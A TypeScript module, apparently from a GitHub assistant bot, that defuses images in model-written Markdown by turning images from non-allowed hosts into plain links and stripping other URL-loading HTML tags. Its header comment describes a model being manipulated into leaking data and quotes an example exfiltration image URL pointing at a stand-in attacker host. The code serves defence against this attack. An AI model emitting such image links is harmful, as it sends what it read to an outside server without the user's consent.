import { characterReference } from "../markdown/entities.js";
import { isAsciiPunctuation } from "../markdown/characters.js";
import { scanMarkdown, type MarkdownDocument } from "../markdown/document.js";

/**
 * Images in what the model writes are fetched as soon as anyone opens the issue: GitHub's
 * image proxy loads `![](https://attacker.example/?q=<data>)` for every reader, so a model
 * talked into it would send what it read to a stranger's server. An image whose host is not
 * the repository's own GitHub host, nor on the operator's allow-list, becomes a plain link
 * (`![alt](url)` → `[alt](url)`, `<img src=…>` → `<a href=…>image</a>`; `<source>`,
 * `<video>` and other tags that load a URL are dropped). Pure.
 *
 * Allowed hosts: the GitHub host and its subdomains (`github.com`, `gist.github.com`; on
 * GitHub Enterprise Server `ghe.example.com`, `media.ghe.example.com`), and for github.com
 * the subdomains of `githubusercontent.com` where GitHub keeps uploads and repository
 * files (`user-images`, `private-user-images`, `raw`, `objects`, `avatars`, `camo`):
 * fetching them tells no stranger anything. A relative URL is the repository's own.
 */

export interface ImagePolicy {
  /** `github.com`, or the GitHub Enterprise Server host. */
  readonly githubHost: string;
  /** More hosts images may come from (`DEVBUDDY_IMAGE_HOSTS`); `*.example.com` allows its subdomains. */
  readonly allowedHosts: readonly string[];
}

const MAX_URL = 2_048;

function hostMatches(host: string, pattern: string): boolean {
  const wanted = pattern.toLowerCase();
  if (wanted.startsWith("*.")) return host.endsWith(wanted.slice(1));
  return host === wanted;
}

export function imageAllowed(url: string, policy: ImagePolicy): boolean {
  if (url.length > MAX_URL) return false;
  const githubHost = policy.githubHost.toLowerCase();
  let parsed: URL;
  try {
    parsed = new URL(url.trim(), `https://${githubHost}/`);
  } catch {
    return false;
  }
  if (parsed.protocol !== "https:" && parsed.protocol !== "http:") return false;
  const host = parsed.hostname.toLowerCase();
  if (host === githubHost || host.endsWith(`.${githubHost}`)) return true;
  if (githubHost === "github.com" && host.endsWith(".githubusercontent.com")) return true;
  return policy.allowedHosts.some((pattern) => hostMatches(host, pattern));
}

/** A destination as written, with escapes and character references read (https://spec.commonmark.org/0.31.2/#links). */
function decodeDestination(text: string): string {
  let out = "";
  for (let at = 0; at < text.length; ) {
    const char = text[at] as string;
    if (char === "\\" && isAsciiPunctuation(text[at + 1])) {
      out += text[at + 1];
      at += 2;
    } else if (char === "&") {
      const reference = characterReference(text, at);
      out += reference ? reference.value : "&";
      at = reference ? reference.end : at + 1;
    } else {
      out += char;
      at++;
    }
  }
  return out;
}

/** Attribute values of one tag, decoded as an HTML parser reads them. */
function attributes(tag: string): Map<string, string> {
  const found = new Map<string, string>();
  let at = 1;
  while (at < tag.length && /[A-Za-z0-9-]/.test(tag[at] as string)) at++;
  while (at < tag.length) {
    while (at < tag.length && /[\s/]/.test(tag[at] as string)) at++;
    const nameStart = at;
    while (at < tag.length && /[A-Za-z0-9_.:-]/.test(tag[at] as string)) at++;
    if (at === nameStart) {
      at++;
      continue;
    }
    const name = tag.slice(nameStart, at).toLowerCase();
    while (at < tag.length && /\s/.test(tag[at] as string)) at++;
    if (tag[at] !== "=") {
      found.set(name, "");
      continue;
    }
    at++;
    while (at < tag.length && /\s/.test(tag[at] as string)) at++;
    let value: string;
    const quote = tag[at];
    if (quote === '"' || quote === "'") {
      const close = tag.indexOf(quote, at + 1);
      value = tag.slice(at + 1, close < 0 ? tag.length : close);
      at = close < 0 ? tag.length : close + 1;
    } else {
      const start = at;
      while (at < tag.length && !/[\s>]/.test(tag[at] as string)) at++;
      value = tag.slice(start, at);
    }
    if (!found.has(name)) found.set(name, decodeHtml(value));
  }
  return found;
}

function decodeHtml(value: string): string {
  let out = "";
  for (let at = 0; at < value.length; ) {
    const reference = value[at] === "&" ? characterReference(value.slice(at, at + 40), 0, true) : undefined;
    if (reference) {
      out += reference.value;
      at += reference.end;
    } else out += value[at++];
  }
  return out;
}

/** Attributes that make a browser load a URL. */
const LOADING = ["src", "srcset", "poster", "background", "lowsrc", "dynsrc", "data"];

/** What to put in place of a raw tag that loads a URL from a host not allowed, or undefined to keep it. */
function defusedTag(tag: string, policy: ImagePolicy): string | undefined {
  if (tag.startsWith("</")) return undefined;
  const values = attributes(tag);
  const urls: string[] = [];
  for (const name of LOADING) {
    const value = values.get(name);
    if (value === undefined) continue;
    // srcset: "url 1x, url 2x".
    if (name === "srcset") for (const candidate of value.split(",")) urls.push(candidate.trim().split(/\s/)[0] ?? "");
    else urls.push(value);
  }
  if (urls.every((url) => imageAllowed(url, policy))) return undefined;
  const name = /^<([A-Za-z][A-Za-z0-9-]*)/.exec(tag)?.[1]?.toLowerCase();
  const src = values.get("src");
  if (name === "img" && src !== undefined) return `<a href="${src.replace(/"/g, "&quot;")}">image</a>`;
  return "";
}

interface Edit {
  readonly start: number;
  readonly end: number;
  readonly text: string;
}

function markdownImages(document: MarkdownDocument, policy: ImagePolicy, edits: Edit[]): void {
  for (const block of document.prose) {
    for (const token of block.tokens) {
      if (token.kind === "link" && token.image) {
        let url: string | undefined;
        if (token.destination) url = block.joined.text.slice(token.destination.start, token.destination.end);
        else if (token.label !== undefined) {
          const definition = document.definition(token.label);
          if (definition) url = document.source.slice(definition.destinationStart, definition.destinationEnd);
        }
        if (url === undefined || !imageAllowed(decodeDestination(url), policy)) {
          const bang = document.sourceRange(block, { start: token.start, end: token.start + 1 });
          edits.push({ start: bang.start, end: bang.start + 1, text: "" });
        }
      } else if (token.kind === "html" && token.html === "tag") {
        const range = document.sourceRange(block, token);
        const replacement = defusedTag(block.joined.text.slice(token.start, token.end), policy);
        if (replacement !== undefined) edits.push({ ...range, text: replacement });
      }
    }
  }
}

function rawImages(document: MarkdownDocument, policy: ImagePolicy, edits: Edit[]): void {
  for (const piece of document.rawPieces(false)) {
    if (piece.kind !== "tag") continue;
    const tag = document.source.slice(piece.start, piece.end);
    const replacement = defusedTag(tag, policy);
    if (replacement !== undefined) edits.push({ start: piece.start, end: piece.end, text: replacement });
  }
}

export function defuseImages(markdown: string, policy: ImagePolicy): string {
  if (!markdown.includes("![") && !markdown.includes("<")) return markdown;
  const document = scanMarkdown(markdown);
  const edits: Edit[] = [];
  markdownImages(document, policy, edits);
  rawImages(document, policy, edits);
  if (edits.length === 0) return markdown;
  edits.sort((a, b) => a.start - b.start);
  const parts: string[] = [];
  let from = 0;
  for (const edit of edits) {
    if (edit.start < from) continue;
    parts.push(markdown.slice(from, edit.start), edit.text);
    from = edit.end;
  }
  parts.push(markdown.slice(from));
  return parts.join("");
}

